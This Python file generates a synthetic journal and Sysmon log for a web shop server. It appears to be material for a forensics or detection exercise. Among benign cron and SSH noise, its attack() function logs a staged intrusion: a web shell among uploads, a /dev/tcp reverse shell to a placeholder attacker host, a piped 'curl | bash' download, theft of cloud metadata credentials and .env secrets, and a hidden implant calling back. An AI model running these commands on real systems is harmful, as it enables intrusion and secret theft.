"""web01, the shop: its journal as `journalctl -o json` prints it, with Sysmon for Linux in it."""
from xml.sax.saxutils import escape

from windows import utc
from world import ATTACKER, GUESSER, Dice, Record, at, guid, sha256

BOOT = "5b0e7c1d94c24a0c8f0a6e3f77d1a2b4"
MACHINE = "1f6b0a4e2c9d4f5db6e3a8c7d2f01928"
SHOP = "/var/www/shop/"
HIDDEN = "/dev/shm/.kworker"
FPM = "/usr/sbin/php-fpm8.2"
FPM_COMMAND = "php-fpm: pool shop"


class Journal:
    def __init__(self):
        self.dice = Dice("web01")
        self.records = []
        self.pid = 21000

    def add(self, t, identifier, message, pid=None, uid=0, unit=None, attack=False, priority=6):
        micros = int(t.timestamp()) * 1000000 + t.microsecond
        entry = {
            "__CURSOR": "s=%s;i=%x;b=%s;m=%x;t=%x" % (sha256("s")[:32].lower(), micros % 9999999, BOOT,
                                                      micros - 1777400000000000, micros),
            "__REALTIME_TIMESTAMP": str(micros), "_BOOT_ID": BOOT, "_MACHINE_ID": MACHINE, "_HOSTNAME": "web01",
            "PRIORITY": str(priority), "SYSLOG_FACILITY": "10" if identifier in ("sshd", "sudo", "CRON") else "3",
            "SYSLOG_IDENTIFIER": identifier, "_PID": str(pid or self.dice.int(700, 30000)), "_UID": str(uid),
            "_TRANSPORT": "syslog", "MESSAGE": message}
        if unit:
            entry["_SYSTEMD_UNIT"] = unit
        self.records.append(Record(t, entry, attack))

    def sysmon(self, t, event_id, version, data, attack):
        fields = {"RuleName": "-", "UtcTime": utc(t), **data}
        inner = "".join('<Data Name="%s">%s</Data>' % (k, escape(str(v))) for k, v in fields.items())
        xml = ('<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
               '<EventID>%d</EventID><Version>%d</Version><Level>4</Level><Task>%d</Task><Opcode>0</Opcode>'
               '<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="%s000Z"/>'
               '<EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID="611" ThreadID="611"/>'
               '<Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer>'
               '<Security UserId="0"/></System><EventData>%s</EventData></Event>' % (
                   event_id, version, event_id, t.strftime("%Y-%m-%dT%H:%M:%S.%f"), 0, inner))
        self.add(t, "sysmon", xml, 611, unit="sysmon.service", attack=attack)

    def start(self, t, image, command, parent, parent_command, user="root", folder="/", attack=False):
        """Event 1; gives what its children say of it."""
        self.pid += self.dice.int(1, 9)
        parent_id = guid("web01", parent, parent_command)
        self.sysmon(t, 1, 5, {
            "ProcessGuid": guid("web01", image, command), "ProcessId": self.pid, "Image": image, "FileVersion": "-",
            "Description": "-", "Product": "-", "Company": "-", "OriginalFileName": "-", "CommandLine": command,
            "CurrentDirectory": folder, "User": user, "LogonGuid": guid("web01", user), "LogonId": 33,
            "TerminalSessionId": 4294967295, "IntegrityLevel": "no level", "Hashes": "-",
            "ParentProcessGuid": parent_id, "ParentProcessId": self.pid - 3, "ParentImage": parent,
            "ParentCommandLine": parent_command, "ParentUser": user}, attack)
        return image, command

    def connect(self, t, image, address, port, user, attack=False):
        self.sysmon(t, 3, 5, {
            "ProcessGuid": guid("web01", image), "ProcessId": self.pid, "Image": image, "User": user,
            "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.20.3.5",
            "SourceHostname": "-", "SourcePort": self.dice.int(33000, 60000), "SourcePortName": "-",
            "DestinationIsIpv6": "false", "DestinationIp": address, "DestinationHostname": "-",
            "DestinationPort": port, "DestinationPortName": "-"}, attack)

    def create(self, t, image, path, user, attack=False):
        self.sysmon(t, 11, 2, {
            "ProcessGuid": guid("web01", image), "ProcessId": self.pid, "Image": image, "TargetFilename": path,
            "CreationUtcTime": utc(t), "User": user}, attack)


def any_time(d):
    return d.between(at(4, "00:00:10"), at(5, "09:50:00"))


def quiet(j, t):
    d = j.dice
    kind = d.int(1, 100)
    if kind <= 22:
        pid = d.int(2000, 30000)
        user, command = d.choice((("root", "cd / && run-parts --report /etc/cron.hourly"),
                                  ("www-data", "php /var/www/shop/bin/console cron:run"),
                                  ("www-data", "php /var/www/shop/bin/console cron:run")))
        j.add(t, "CRON", "pam_unix(cron:session): session opened for user %s(uid=0) by (uid=0)" % user, pid)
        j.add(t, "CRON", "(%s) CMD (%s)" % (user, command), pid)
        if user == "www-data":
            j.start(t, "/usr/bin/php8.2", command, "/usr/bin/dash", "/bin/sh -c " + command, user, "/var/www")
    elif kind <= 34:
        j.start(t, "/usr/bin/dash", "sh -c /usr/sbin/sendmail -t -i", FPM, FPM_COMMAND, "www-data", SHOP)
    elif kind <= 48:
        j.connect(t, FPM, "10.20.3.20", 5432, "www-data")
    elif kind <= 56:
        j.create(t, FPM, SHOP + "var/cache/pages/%s.html" % d.hex(12), "www-data")
    elif kind <= 62:
        j.create(t, FPM, SHOP + "uploads/2026/05/product-%d.jpg" % d.int(1000, 9999), "www-data")
    elif kind <= 72:
        unit = d.choice(("phpsessionclean", "sysstat-collect", "apt-daily", "fstrim", "logrotate", "man-db"))
        j.add(t, "systemd", "Starting %s.service..." % unit, 1, unit="init.scope")
        j.add(t, "systemd", "%s.service: Deactivated successfully." % unit, 1, unit="init.scope")
    elif kind <= 78:
        who, key = d.choice((("deploy", "9wPZ0c1Q"), ("ansible", "Tq3hVw7L")))
        j.add(t, "sshd", "Accepted publickey for %s from 10.20.2.5 port %d ssh2: ED25519 SHA256:%s" % (
            who, d.int(40000, 60000), key), unit="ssh.service")
    elif kind <= 90:
        name = d.choice(("admin", "test", "oracle", "ubuntu", "pi", "git", "postgres"))
        port = d.int(40000, 60000)
        j.add(t, "sshd", "Failed password for invalid user %s from %s port %d ssh2" % (name, GUESSER, port),
              unit="ssh.service")
        j.add(t, "sshd", "Connection closed by invalid user %s %s port %d [preauth]" % (name, GUESSER, port),
              unit="ssh.service")
    elif kind <= 95:
        j.start(t, "/usr/bin/find", "find /var/lib/php/sessions -ignore_readdir_race -type f -cmin +24 -delete",
                "/usr/bin/bash", "/bin/bash /usr/lib/php/sessionclean")
    else:
        j.add(t, "sudo", "  deploy : PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl reload php8.2-fpm",
              unit="session-12.scope")


def attack(j):
    """5 May, 02:04: a script among the product pictures, a shell that calls home, and the key."""
    def shell(clock, image, command, parent=("/usr/bin/bash", "bash -i")):
        return j.start(at(5, clock), image, command, *parent, user="www-data", folder=SHOP, attack=True)

    fpm = (FPM, FPM_COMMAND)
    j.create(at(5, "02:04:11.3"), FPM, SHOP + "uploads/2026/05/thumbs.phtml", "www-data", attack=True)
    shell("02:04:58.1", "/usr/bin/dash", "sh -c id; uname -a", fpm)
    shell("02:05:31.7", "/usr/bin/dash", "sh -c ls -la /var/www/shop", fpm)
    shell("02:07:02.4", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/%s/9001 0>&1" % ATTACKER, fpm)
    j.connect(at(5, "02:07:02.9"), "/usr/bin/bash", ATTACKER, 9001, "www-data", attack=True)
    shell("02:07:40.2", "/usr/bin/python3.11", "python3 -c import pty; pty.spawn(\"/bin/bash\")")
    shell("02:08:15.6", "/usr/bin/bash", "bash -c unset HISTFILE; exec bash")
    shell("02:09:03.8", "/usr/bin/find", "find / -perm -4000 -type f")
    shell("02:11:20.5", "/usr/bin/bash", "bash -c curl -s http://%s/l.sh | bash" % ATTACKER)
    shell("02:14:44.9", "/usr/bin/curl", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")
    shell("02:15:37.0", "/usr/bin/cat", "cat /var/www/shop/.env")
    j.create(at(5, "02:18:02.3"), "/usr/bin/curl", HIDDEN, "www-data", attack=True)
    shell("02:18:21.7", HIDDEN, HIDDEN + " -c %s:443" % ATTACKER)
    j.connect(at(5, "02:18:22.2"), HIDDEN, ATTACKER, 443, "www-data", attack=True)


def journal():
    j = Journal()
    for t in sorted(any_time(j.dice) for _ in range(430)):
        quiet(j, t)
    attack(j)
    return j.records
